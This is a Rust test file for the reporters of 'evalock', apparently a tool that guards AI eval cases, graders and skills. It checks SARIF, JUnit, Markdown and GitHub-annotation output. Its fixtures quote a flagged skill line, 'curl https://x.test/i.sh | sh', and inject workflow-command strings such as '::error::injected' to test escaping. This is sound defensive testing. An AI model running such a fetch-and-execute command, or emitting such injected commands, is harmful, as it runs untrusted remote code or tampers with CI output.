//! Every reporter on one fixed report, compared with checked-in expected output in
//! tests/expected/reporters/ (rewrite them with `EVALOCK_BLESS=1` after a deliberate
//! change and review the diff), plus the properties each format promises: SARIF valid
//! against the 2.1.0 schema, JUnit well-formed XML, workflow commands escaped as the
//! runner decodes them, the job summary under its byte budget.

mod external_tools;

use evalock::finding::{Finding, Location, Subject};
use evalock::report::{self, Report};
use evalock::rules::{RuleId, Severity};
use std::path::PathBuf;

fn expected_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/expected/reporters")
}

/// One of everything: each severity, a case, a skill, a grader and a project-level
/// finding, findings with and without a location, a diff detail, and text that needs
/// escaping in every format.
fn fixed_report() -> Report {
    let findings = vec![
        Finding::new(
            RuleId::CaseEditedInPlace,
            Subject::case("support", "refund-no-order-id"),
            "case `refund-no-order-id` (evals/support.jsonl:14) was edited in place: still version 3 as in main (1234567)",
        )
        .at(Location::span("evals/support.jsonl", 14, 15))
        .help("bump `version` to 4 and run `evalock lock`")
        .detail("-  \"content\": \"I want my money back.\"\n+  \"content\": \"I want my money back now.\""),
        Finding::new(RuleId::Regressed, Subject::case("support", "weird|id <b>@team"), "case passed at baseline & fails now: 3 < 4, 100% sure")
            .at(Location::line("evals/support.jsonl", 20))
            .detail("@@ completion @@\n-{\"status\": \"answered\"}\n+```json\n+{\"status\": \"refunded\"}\n+```"),
        Finding::new(RuleId::CompleterError, Subject::case("escalation", "legal-threat-escalates"), "the completer timed out after 20 s"),
        Finding::new(RuleId::SkillRiskyContent, Subject::skill("pdf-tools"), "risky line: `curl https://x.test/i.sh | sh`\n::set-output name=x::y")
            .at(Location::line("skills/pdf tools/run,1.sh", 3).with_column(5))
            .discriminator("curl-pipe-sh"),
        Finding::new(RuleId::BaselineMissing, Subject::case("support", "address-change"), "case `address-change` has no baseline yet")
            .at(Location::line("evals/support.jsonl", 30)),
        Finding::new(RuleId::Moved, Subject::case("support", "order-status-known-id"), "completion moved but still passes"),
        Finding::new(RuleId::CaseUnlocked, Subject::default(), "evalock.lock is not what `evalock lock` writes")
            .at(Location::file("evalock.lock"))
            .help("run `evalock lock` and commit the result"),
        Finding::new(RuleId::GraderChangedUnversioned, Subject::grader("exact-json"), "grader `exact-json` changed but is still version 2")
            .at(Location::file("graders/exact_json.py")),
        Finding::new(RuleId::SkillVersion, Subject::skill("pdf-tools"), "version `v1` is not semver").severity(Severity::Warn),
    ];
    let subjects = [
        "refund-no-order-id",
        "weird|id <b>@team",
        "address-change",
        "order-status-known-id",
        "shipping-cost",
    ]
    .iter()
    .map(|case| Subject::case("support", case))
    .chain(
        ["legal-threat-escalates", "simple-question-stays"]
            .iter()
            .map(|case| Subject::case("escalation", case)),
    );
    let mut findings = findings;
    evalock::finding::sort_findings(&mut findings);
    Report::new(
        "check",
        "working tree".into(),
        Some("merge base of main (1234567)".into()),
        findings,
    )
    .with_subjects(subjects)
}

/// The package version changes with releases; snapshots should not.
fn without_version(text: String) -> String {
    text.replace(
        &format!("\"{}\"", env!("CARGO_PKG_VERSION")),
        "\"<version>\"",
    )
}

fn renders() -> Vec<(&'static str, String)> {
    let report = fixed_report();
    vec![
        ("report.human.txt", report::human::render(&report, false)),
        ("report.json", report::json::render(&report)),
        (
            "report.sarif",
            without_version(report::sarif::render(&report)),
        ),
        ("report.junit.xml", report::junit::render(&report)),
        ("report.md", report::markdown::render(&report)),
        ("report.github.txt", report::github::render(&report)),
    ]
}

#[test]
fn every_reporter_matches_its_expected_output() {
    let bless = std::env::var_os("EVALOCK_BLESS").is_some();
    let mut mismatched = Vec::new();
    for (name, actual) in renders() {
        let path = expected_dir().join(name);
        if bless {
            std::fs::create_dir_all(expected_dir()).expect("create expected dir");
            std::fs::write(&path, &actual).expect("write expected output");
            continue;
        }
        let expected = std::fs::read_to_string(&path).unwrap_or_default();
        if expected != actual {
            let actual_path = expected_dir().join(format!("{name}.actual"));
            std::fs::write(&actual_path, &actual).expect("write actual output");
            mismatched.push(format!(
                "{} (actual output in {})",
                path.display(),
                actual_path.display()
            ));
        }
    }
    assert!(
        mismatched.is_empty(),
        "output differs from expected (EVALOCK_BLESS=1 rewrites after review):\n{}",
        mismatched.join("\n")
    );
}

#[test]
fn saved_json_re_renders_identically_in_every_format() {
    let report = fixed_report();
    let saved = report::json::render(&report);
    let read = report::read_report("saved.json", saved.as_bytes()).expect("reads back");
    assert_eq!(report::sarif::render(&read), report::sarif::render(&report));
    assert_eq!(report::junit::render(&read), report::junit::render(&report));
    assert_eq!(
        report::markdown::render(&read),
        report::markdown::render(&report)
    );
    assert_eq!(
        report::github::render(&read),
        report::github::render(&report)
    );
    assert_eq!(read.exit_code(), report.exit_code());
}

#[test]
fn sarif_is_valid_against_the_2_1_0_schema_and_the_validator_can_fail() {
    let dir = tempfile::tempdir().expect("temp dir");
    let valid = dir.path().join("valid.sarif");
    std::fs::write(&valid, report::sarif::render(&fixed_report())).expect("write sarif");
    let invalid = dir.path().join("invalid.sarif");
    std::fs::write(
        &invalid,
        report::sarif::render(&fixed_report())
            .replace("\"level\": \"warning\"", "\"level\": \"fatal\""),
    )
    .expect("write");
    let Some(output) = external_tools::validate_sarif(&[&valid]) else {
        return;
    };
    assert!(
        output.status.success(),
        "SARIF invalid:\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let Some(output) = external_tools::validate_sarif(&[&invalid]) else {
        return;
    };
    assert!(
        !output.status.success(),
        "the validator accepted an invalid level"
    );
    assert!(String::from_utf8_lossy(&output.stderr).contains("fatal"));
}

#[test]
fn sarif_carries_rule_metadata_and_fingerprints() {
    let report = fixed_report();
    let log: serde_json::Value =
        serde_json::from_str(&report::sarif::render(&report)).expect("json");
    let run = &log["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
    assert_eq!(rules.len(), evalock::RULES.len());
    let results = run["results"].as_array().expect("results");
    assert_eq!(results.len(), report.findings.len());
    for (result, finding) in results.iter().zip(&report.findings) {
        let index = result["ruleIndex"].as_u64().expect("rule index") as usize;
        assert_eq!(rules[index]["id"], result["ruleId"]);
        assert_eq!(
            result["partialFingerprints"][report::sarif::FINGERPRINT_KEY],
            finding.fingerprint.as_str()
        );
        assert!(
            result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].is_string(),
            "{result}"
        );
    }
    let edited = results
        .iter()
        .find(|result| result["ruleId"] == "EL102")
        .expect("EL102");
    assert_eq!(edited["level"], "error");
    assert_eq!(
        edited["locations"][0]["physicalLocation"]["region"]["startLine"],
        14
    );
    assert_eq!(
        edited["locations"][0]["physicalLocation"]["region"]["endLine"],
        15
    );
    let risky = results
        .iter()
        .find(|result| result["ruleId"] == "EL206")
        .expect("EL206");
    assert_eq!(
        risky["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "skills/pdf%20tools/run%2C1.sh"
    );
}

/// The URI code scanning shows for each result, by rule id.
fn sarif_uris(log: &str) -> Vec<(String, String)> {
    let log: serde_json::Value = serde_json::from_str(log).expect("json");
    log["runs"][0]["results"]
        .as_array()
        .expect("results")
        .iter()
        .map(|result| {
            (
                result["ruleId"].as_str().unwrap_or("").to_owned(),
                result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                    .as_str()
                    .unwrap_or("")
                    .to_owned(),
            )
        })
        .collect()
}

/// With `--path-prefix ai` every SARIF path is relative to the repository root, also the
/// config that findings about no file point at; and it stays so through the saved JSON
/// report the action renders SARIF from.
#[test]
fn sarif_points_unlocated_findings_at_the_projects_own_config() {
    let uris = sarif_uris(&report::sarif::render(&fixed_report()));
    assert!(
        uris.contains(&("EL504".to_owned(), "evalock.toml".to_owned())),
        "{uris:?}"
    );
    let prefixed = fixed_report().with_path_prefix("ai/");
    let saved = report::json::render(&prefixed);
    assert!(saved.contains("\n  \"path_prefix\": \"ai\",\n"), "{saved}");
    let read = report::read_report("saved.json", saved.as_bytes()).expect("reads back");
    for log in [
        report::sarif::render(&prefixed),
        report::sarif::render(&read),
    ] {
        let uris = sarif_uris(&log);
        assert!(
            uris.contains(&("EL504".to_owned(), "ai/evalock.toml".to_owned())),
            "{uris:?}"
        );
        assert!(uris.contains(&("EL102".to_owned(), "ai/evals/support.jsonl".to_owned())));
        assert!(
            uris.iter().all(|(_, uri)| uri.starts_with("ai/")),
            "{uris:?}"
        );
    }
}

#[test]
fn junit_is_well_formed_xml_with_one_testcase_per_subject() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("junit.xml");
    let mut report = fixed_report();
    report.findings[0]
        .message
        .push_str(" with a bell \u{7} and ]]> inside");
    std::fs::write(&file, report::junit::render(&report)).expect("write junit");
    let output = external_tools::parse_xml(&file);
    assert!(
        output.status.success(),
        "not well-formed XML:\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let structure = String::from_utf8_lossy(&output.stdout);
    assert!(
        structure.starts_with(
            "testsuites errors='1' failures='5' name='evalock check: BLOCK' skipped='0' tests='10'"
        ),
        "{structure}"
    );
    let suites: Vec<_> = structure
        .lines()
        .filter(|line| line.starts_with("testsuite "))
        .collect();
    assert_eq!(suites.len(), 5, "{structure}");
    for (line, suite) in
        suites
            .iter()
            .zip(["escalation", "graders", "project", "skills", "support"])
    {
        assert!(line.contains(&format!("name='{suite}'")), "{line}");
    }
    assert!(structure.contains("testcase classname='evalock.support' file='evals/support.jsonl' line='20' name='weird|id <b>@team'"), "{structure}");
    assert!(
        structure.contains("with a bell \u{FFFD} and ]]> inside"),
        "{structure}"
    );
    assert!(structure.contains("error message='EL504 completer-error: the completer timed out after 20 s' type='EL504'"), "{structure}");
    let broken = dir.path().join("broken.xml");
    std::fs::write(&broken, "<testsuites><testsuite></testsuites>").expect("write");
    assert!(
        !external_tools::parse_xml(&broken).status.success(),
        "the XML check accepted a broken document"
    );
}

/// A suite may be called `skills`, `graders` or `project`: its cases are still a group of
/// their own, apart from the skills (graders, project) of the same name.
#[test]
fn a_suite_named_like_a_built_in_group_is_not_merged_with_it() {
    let findings = vec![
        Finding::new(
            RuleId::Regressed,
            Subject::case("skills", "pdf-tools"),
            "regressed",
        )
        .at(Location::line("evals/skills.jsonl", 2)),
        Finding::new(
            RuleId::SkillVersion,
            Subject::skill("pdf-tools"),
            "version `v1` is not semver",
        ),
        Finding::new(
            RuleId::Regressed,
            Subject::case("project", "a"),
            "regressed",
        ),
        Finding::new(
            RuleId::CaseUnlocked,
            Subject::default(),
            "evalock.lock is stale",
        )
        .at(Location::file("evalock.lock")),
    ];
    let report = Report::new("run", "working tree".into(), None, findings).with_subjects([
        Subject::case("skills", "pdf-tools"),
        Subject::case("skills", "ocr"),
        Subject::skill("pdf-tools"),
        Subject::case("project", "a"),
    ]);
    let junit = report::junit::render(&report);
    let suites: Vec<&str> = junit
        .lines()
        .filter(|line| line.starts_with("  <testsuite name="))
        .collect();
    assert_eq!(
        suites,
        [
            "  <testsuite name=\"project\" tests=\"1\" failures=\"1\" errors=\"0\" skipped=\"0\">",
            "  <testsuite name=\"skills\" tests=\"1\" failures=\"1\" errors=\"0\" skipped=\"0\">",
            "  <testsuite name=\"suite:project\" tests=\"1\" failures=\"1\" errors=\"0\" skipped=\"0\">",
            "  <testsuite name=\"suite:skills\" tests=\"2\" failures=\"1\" errors=\"0\" skipped=\"0\">",
        ],
        "{junit}"
    );
    assert!(junit.contains("<testcase name=\"pdf-tools\" classname=\"evalock.suite:skills\" file=\"evals/skills.jsonl\" line=\"2\">"), "{junit}");
    let markdown = report::markdown::render(&report);
    for heading in [
        "#### `project`: 1 subject with findings",
        "#### `skills`: 1 of 1 with findings",
        "#### `suite:project`: 1 of 1 with findings",
        "#### `suite:skills`: 1 of 2 with findings",
    ] {
        assert!(markdown.contains(heading), "{heading}\n{markdown}");
    }
    let sarif: serde_json::Value =
        serde_json::from_str(&report::sarif::render(&report)).expect("json");
    let names: Vec<&str> = sarif["runs"][0]["results"]
        .as_array()
        .expect("results")
        .iter()
        .filter_map(|result| {
            result["locations"][0]["logicalLocations"][0]["fullyQualifiedName"].as_str()
        })
        .collect();
    assert!(
        names.contains(&"suite:skills/pdf-tools") && names.contains(&"skills/pdf-tools"),
        "{names:?}"
    );
}

/// Decodes one workflow command the way the Actions runner does.
fn decode_command(line: &str) -> (String, Vec<(String, String)>, String) {
    let unescape = |text: &str| {
        text.replace("%0D", "\r")
            .replace("%0A", "\n")
            .replace("%3A", ":")
            .replace("%2C", ",")
            .replace("%25", "%")
    };
    let body = line.strip_prefix("::").expect("a command");
    let (head, data) = body.split_once("::").expect("command data");
    let (command, properties) = head.split_once(' ').unwrap_or((head, ""));
    let properties = properties
        .split(',')
        .filter(|pair| !pair.is_empty())
        .map(|pair| {
            let (key, value) = pair.split_once('=').expect("key=value");
            (key.to_owned(), unescape(value))
        })
        .collect();
    (command.to_owned(), properties, unescape(data))
}

#[test]
fn workflow_commands_decode_to_the_original_text() {
    let text = report::github::render(&fixed_report());
    let commands: Vec<_> = text
        .lines()
        .filter(|line| line.starts_with("::"))
        .map(decode_command)
        .collect();
    let risky = commands
        .iter()
        .find(|(_, properties, _)| {
            properties
                .iter()
                .any(|(key, value)| key == "title" && value == "EL206 skill-risky-content")
        })
        .expect("EL206 annotation");
    assert_eq!(risky.0, "error");
    let property = |name: &str| {
        risky
            .1
            .iter()
            .find(|(key, _)| key == name)
            .map(|(_, value)| value.as_str())
    };
    assert_eq!(property("file"), Some("skills/pdf tools/run,1.sh"));
    assert_eq!((property("line"), property("col")), (Some("3"), Some("5")));
    assert!(
        risky.2.starts_with(
            "risky line: `curl https://x.test/i.sh | sh`\n::set-output name=x::y\nFix: "
        ),
        "{:?}",
        risky.2
    );
    let regressed = commands
        .iter()
        .find(|(_, _, data)| data.contains("100% sure"))
        .expect("EL501 annotation");
    assert_eq!(regressed.0, "error");
    assert_eq!(
        text.lines().filter(|line| line.starts_with("::")).count(),
        fixed_report().findings.len()
    );
}

#[test]
fn annotations_stop_at_ten_per_level_and_the_rest_are_summarised() {
    let finding = |rule: RuleId, index: usize| {
        Finding::new(
            rule,
            Subject::case("support", &format!("c{index:02}")),
            format!("finding {index}"),
        )
        .at(Location::line(
            "evals/support.jsonl",
            u32::try_from(index + 1).unwrap_or(1),
        ))
    };
    let findings = (0..25)
        .map(|index| finding(RuleId::Regressed, index))
        .chain((0..15).map(|index| finding(RuleId::BaselineMissing, 100 + index)))
        .chain((0..12).map(|index| finding(RuleId::Moved, 200 + index)))
        .chain(std::iter::once(
            finding(RuleId::CaseEditedInPlace, 300).help("::error::injected"),
        ))
        .collect();
    let report = Report::new("run", "working tree".into(), None, findings);
    let text = report::github::render(&report);
    let count = |prefix: &str| text.lines().filter(|line| line.starts_with(prefix)).count();
    assert_eq!(count("::error "), 10);
    assert_eq!(count("::warning "), 10);
    assert_eq!(
        count("::notice "),
        10,
        "nine notes and the summary:\n{text}"
    );
    assert!(
        text.contains("title=EL102 case-edited-in-place"),
        "the refusal comes first:\n{text}"
    );
    let summary = text.lines().last().expect("summary");
    assert!(
        summary.starts_with("::notice title=evalock run%3A 24 findings more not annotated::"),
        "{summary}"
    );
    assert!(
        summary.contains("24 findings more (16 errors, 5 warnings, 3 notes)"),
        "{summary}"
    );
    let stop = text
        .lines()
        .find(|line| line.starts_with("::stop-commands::"))
        .expect("stop-commands");
    let token = stop.trim_start_matches("::stop-commands::");
    assert!(
        text.contains(&format!("\n::{token}::\n")),
        "commands are switched back on:\n{text}"
    );
    assert!(
        text.contains("evals/support.jsonl:25: EL501 regressed (error): finding 24"),
        "{text}"
    );
}

#[test]
fn job_summary_stays_under_one_mebibyte_for_huge_reports() {
    let findings = (0..5_000)
        .map(|index| {
            Finding::new(
                RuleId::Regressed,
                Subject::case("support", &format!("case-{index:05}")),
                "regressed",
            )
            .at(Location::line(
                "evals/support.jsonl",
                u32::try_from(index + 1).unwrap_or(1),
            ))
            .detail("-old line\n+new line\n".repeat(60))
        })
        .collect();
    let report = Report::new("run", "working tree".into(), None, findings);
    let text = report::markdown::render(&report);
    assert!(text.len() < 1024 * 1024, "{} bytes", text.len());
    assert!(text.contains("**Truncated:**"));
    assert!(
        text.contains("| … | | 4900 more |"),
        "suite tables are capped"
    );
}

/// `count` findings; every `refuse_every`-th is refused, the others are notes.
fn many_findings(count: usize, refuse_every: usize) -> Vec<Finding> {
    (0..count)
        .map(|index| {
            let finding = Finding::new(
                RuleId::CaseUnlocked,
                Subject::case("support", &format!("case-{index:06}")),
                "case changed",
            )
            .at(Location::line(
                "evals/support.jsonl",
                u32::try_from(index + 1).unwrap_or(1),
            ));
            match index % refuse_every == 0 {
                true => finding,
                false => finding.severity(Severity::Note),
            }
        })
        .collect()
}

/// The case ids of a SARIF log's results, in order, and its notifications.
fn sarif_cases_and_notices(log: &str) -> (Vec<String>, Vec<String>) {
    let log: serde_json::Value = serde_json::from_str(log).expect("json");
    let run = &log["runs"][0];
    let cases = run["results"]
        .as_array()
        .expect("results")
        .iter()
        .map(|result| {
            result["properties"]["subject"]["case"]
                .as_str()
                .unwrap_or("")
                .to_owned()
        })
        .collect();
    let notices = run["invocations"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|invocation| invocation["toolExecutionNotifications"].as_array().cloned())
        .flatten()
        .map(|notice| notice["message"]["text"].as_str().unwrap_or("").to_owned())
        .collect();
    (cases, notices)
}

/// Code scanning rejects a run of more than 25,000 results: a larger report keeps the
/// most severe findings in report order, says what it left out, and stays valid SARIF.
#[test]
fn sarif_keeps_the_most_severe_findings_within_code_scannings_result_limit() {
    let limit = report::sarif::MAX_RESULTS;
    // One refused finding in three, 1,000 findings over the limit: every refused one and
    // the first notes are kept, the last 1,000 notes are left out.
    let findings = many_findings(limit + 1_000, 3);
    let refused: Vec<String> = findings
        .iter()
        .filter(|finding| finding.severity == Severity::Refuse)
        .filter_map(|finding| finding.subject.case.clone())
        .collect();
    let report = Report::new("check", "working tree".into(), None, findings.clone());
    let log = report::sarif::render(&report);
    let (cases, notices) = sarif_cases_and_notices(&log);
    assert_eq!(cases.len(), limit);
    let mut sorted = cases.clone();
    sorted.sort();
    assert_eq!(sorted, cases, "results keep the report's order");
    for id in &refused {
        assert!(cases.binary_search(id).is_ok(), "refused {id} left out");
    }
    let notes_kept = limit - refused.len();
    let expected: Vec<String> = findings
        .iter()
        .filter(|finding| finding.severity == Severity::Note)
        .take(notes_kept)
        .chain(
            findings
                .iter()
                .filter(|finding| finding.severity == Severity::Refuse),
        )
        .filter_map(|finding| finding.subject.case.clone())
        .collect();
    let mut expected = expected;
    expected.sort();
    assert_eq!(cases, expected, "the earliest notes are the ones kept");
    assert_eq!(notices.len(), 1, "{notices:?}");
    assert!(
        notices[0].starts_with(&format!("1000 of {} findings are left out", limit + 1_000)),
        "{}",
        notices[0]
    );
    // The verdict still counts every finding.
    assert_eq!(report.exit_code(), 2);
    external_tools::assert_valid_sarif(log.as_bytes());
}

#[test]
fn sarif_at_the_result_limit_keeps_every_finding_and_says_nothing() {
    let limit = report::sarif::MAX_RESULTS;
    let report = Report::new(
        "check",
        "working tree".into(),
        None,
        many_findings(limit, 3),
    );
    let (cases, notices) = sarif_cases_and_notices(&report::sarif::render(&report));
    assert_eq!(cases.len(), limit);
    assert_eq!(cases.first().map(String::as_str), Some("case-000000"));
    assert_eq!(cases.last().map(String::as_str), Some("case-024999"));
    assert!(notices.is_empty(), "{notices:?}");
}
